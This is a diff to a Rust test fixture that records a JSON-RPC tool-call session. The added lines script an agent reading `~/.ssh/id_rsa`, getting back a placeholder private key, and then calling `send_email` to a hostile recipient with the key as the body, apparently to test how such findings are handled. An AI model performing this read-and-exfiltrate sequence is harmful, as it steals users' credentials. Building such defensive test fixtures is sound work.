@@ -69,6 +69,31 @@ fn recording() -> String {
             r#"{{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{{"name":{bad},"arguments":{{{bad}:{bad}}}}}}}"#
         )),
     );
+    // A key that is read by a hostile path and goes out again: findings and stories that quote both.
+    let key = text(&format!(
+        "-----BEGIN OPENSSH PRIVATE KEY-----\n{}\n-----END OPENSSH PRIVATE KEY-----",
+        "b3BlbnNzaC1rZXktdjEAAAAA\n".repeat(9)
+    ));
+    let path = text(&format!("/home/x/.ssh/id_rsa{all}"));
+    put(
+        "c2s",
+        raw(format!(
+            r#"{{"jsonrpc":"2.0","id":21,"method":"tools/call","params":{{"name":"read_file","arguments":{{"path":{path}}}}}}}"#
+        )),
+    );
+    put(
+        "s2c",
+        raw(format!(
+            r#"{{"jsonrpc":"2.0","id":21,"result":{{"content":[{{"type":"text","text":{key}}}]}}}}"#
+        )),
+    );
+    put(
+        "c2s",
+        raw(format!(
+            r#"{{"jsonrpc":"2.0","id":22,"method":"tools/call","params":{{"name":{},"arguments":{{"to":{bad},"body":{key}}}}}}}"#,
+            text(&format!("send_email{all}"))
+        )),
+    );
     put("stderr", format!("\"text\":{bad}"));
     put(
         "s2c",
